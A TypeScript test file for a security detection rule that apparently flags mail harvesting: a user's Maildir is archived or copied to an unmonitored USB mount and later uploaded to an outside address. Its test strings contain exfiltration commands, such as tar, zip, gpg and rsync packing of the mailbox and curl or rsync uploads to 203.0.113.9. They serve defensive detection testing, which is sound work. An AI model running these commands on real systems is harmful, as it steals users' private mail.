import assert from 'node:assert/strict';
import { test } from 'node:test';
import { HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';

/** Rules that record writes name folders: what is packed to elsewhere leaves no record but the words of who packed it. */
async function told(pack: string, send: string, isWatched = false): Promise<string> {
  const log = new HostLog();
  const messages = [log.deliver({ to: 'clerk' }), log.deliver({ to: 'clerk' })];
  const shell = log.shell('clerk');
  shell.write('/home/clerk/notes.txt');
  if (isWatched) shell.write('/mnt/usb/plan.txt');
  log.wait(MINUTE);
  const packer = shell.run(pack);
  for (const { path } of messages) packer.read(path);
  log.wait(30 * MINUTE);
  shell.run(send).connect('203.0.113.9', 80);
  return (await scanLog(log)).map(({ analytic, severity }) => `${analytic} ${severity}`).join();
}
const CURL = '/usr/bin/curl -T /mnt/usb/m http://203.0.113.9/up';
const HARVEST = 'AN1310 medium';

test('a box that is packed or copied to where nothing is recorded, and sent from there later', async () => {
  for (const pack of [
    '/usr/bin/tar -czf /mnt/usb/m /home/clerk/Maildir',
    '/usr/bin/zip -r /mnt/usb/m /home/clerk/Maildir',
    '/usr/bin/gpg -c -o /mnt/usb/m /home/clerk/Maildir/new/x',
    '/usr/bin/cp -r /home/clerk/Maildir /mnt/usb/m',
    '/usr/bin/rsync -a /home/clerk/Maildir/ /mnt/usb/m',
  ])
    assert.equal(await told(pack, CURL), HARVEST, pack);
  const copied = '/usr/bin/cp -r /home/clerk/Maildir /mnt/usb/';
  assert.equal(await told(copied, '/usr/bin/rsync -a /mnt/usb/Maildir rsync://203.0.113.9/in/'), HARVEST, copied);
});

test('where writes in that place are recorded, or something else is sent, the words say nothing', async () => {
  const pack = '/usr/bin/tar -czf /mnt/usb/m /home/clerk/Maildir';
  assert.equal(await told(pack, CURL, true), '', 'a record would tell of it');
  assert.equal(await told(pack, '/usr/bin/curl -T /mnt/usb/other http://203.0.113.9/up'), '');
  assert.equal(await told('/usr/bin/tar -czf /usr/bin/m /home/clerk/Maildir', '/usr/bin/curl -T /usr/bin/m x'), '');
  assert.equal(await told('/usr/bin/grep -c From /home/clerk/Maildir/new/x /mnt/usb/m', CURL), '', 'packs nothing');
});
